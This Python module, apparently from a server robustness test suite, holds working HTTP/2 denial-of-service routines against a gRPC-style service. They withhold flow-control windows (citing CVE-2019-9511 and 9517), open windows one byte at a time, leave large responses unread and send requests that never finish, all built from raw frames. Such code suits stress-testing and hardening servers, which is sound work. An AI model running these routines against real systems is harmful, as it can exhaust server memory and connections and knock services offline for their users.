"""Peers that ask for much and take nothing: stalled windows and slow readers."""

import struct
import time

from wire import (
    DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, WINDOW_UPDATE, Attacker, frame,
    request_block,
)  # fmt: skip

# RepeatRequest { payload: 1000 bytes, count: 1000000 }, and EchoRequest { payload: 1 MB }.
_PAYLOAD = b"\x12\xe8\x07" + bytes(1000) + b"\x18\xc0\x84\x3d"
REPEAT = struct.pack(">BI", 0, len(_PAYLOAD)) + _PAYLOAD
NO_WINDOW = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)


def ask(attacker, streams, message=REPEAT, method="Repeat"):
    for turn in range(streams):
        stream = 2 * turn + 1
        head = frame(HEADERS, END_HEADERS, stream, request_block(method))
        attacker.send(head + frame(DATA, END_STREAM, stream, message), 1)


def _hold(attacker, seconds):
    """Stays for so long, or until it is cut off."""
    attacker.read_until(lambda: False, seconds)
    return attacker.outcome()


def no_window(address, seconds=3, streams=200):
    """CVE-2019-9511, 9517: INITIAL_WINDOW_SIZE is 0, and endless answers are asked for."""
    with Attacker(address, settings=NO_WINDOW) as attacker:
        ask(attacker, streams)
        return _hold(attacker, seconds)


def window_never_updated(address, seconds=3, streams=200):
    """The first 64 KiB are taken, and no more."""
    with Attacker(address) as attacker:
        ask(attacker, streams)
        return _hold(attacker, seconds)


def window_of_one_byte(address, seconds=3, streams=50):
    """The window is opened by one byte at a time."""
    with Attacker(address, settings=NO_WINDOW) as attacker:
        ask(attacker, streams)
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not attacker.is_cut:
            for turn in range(streams):
                attacker.send(frame(WINDOW_UPDATE, 0, 2 * turn + 1, struct.pack(">I", 1)), 1)
            attacker.read(0.02)
        return attacker.outcome()


def unread_answers(address, seconds=3, streams=200):
    """Windows are wide open, and nothing is read from the socket."""
    wide = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0x7FFFFFFF)
    with Attacker(address, settings=wide, receive_buffer=4096) as attacker:
        attacker.send(frame(WINDOW_UPDATE, payload=struct.pack(">I", 0x7FFF0000 - 65535)))
        ask(attacker, streams)
        time.sleep(seconds)
        return attacker.outcome()


def _send_payload(attacker, stream, message, flags):
    """Sends a message within the windows; `flags` go with its last frame."""
    for at in range(0, len(message), 16384):
        last = at + 16384 >= len(message)
        if not attacker.send_payload(stream, message[at : at + 16384], flags if last else 0):
            break


def _echo(size):
    """EchoRequest { payload: `size` bytes } with its prefix; 1 MiB to 256 MiB."""
    length = bytes([size & 127 | 128, size >> 7 & 127 | 128, size >> 14 & 127 | 128, size >> 21])
    payload = b"\x12" + length + bytes(size)
    return struct.pack(">BI", 0, len(payload)) + payload


def large_answers_unread(address, seconds=3, streams=90):
    """Unary answers of 1 MiB each wait for a window that never opens."""
    message = _echo(1 << 20)
    with Attacker(address, settings=NO_WINDOW) as attacker:
        for turn in range(streams):
            stream = 2 * turn + 1
            attacker.send(frame(HEADERS, END_HEADERS, stream, request_block()))
            _send_payload(attacker, stream, message, END_STREAM)
        return _hold(attacker, seconds)


def requests_unfinished(address, seconds=3, streams=90):
    """Unary requests of 1 MiB each of which the last byte never comes."""
    message = _echo(1 << 20)[:-1]
    with Attacker(address) as attacker:
        for turn in range(streams):
            stream = 2 * turn + 1
            attacker.send(frame(HEADERS, END_HEADERS, stream, request_block()))
            _send_payload(attacker, stream, message, 0)
        return _hold(attacker, seconds)


ALL = [no_window, window_never_updated, window_of_one_byte, unread_answers, large_answers_unread, requests_unfinished]
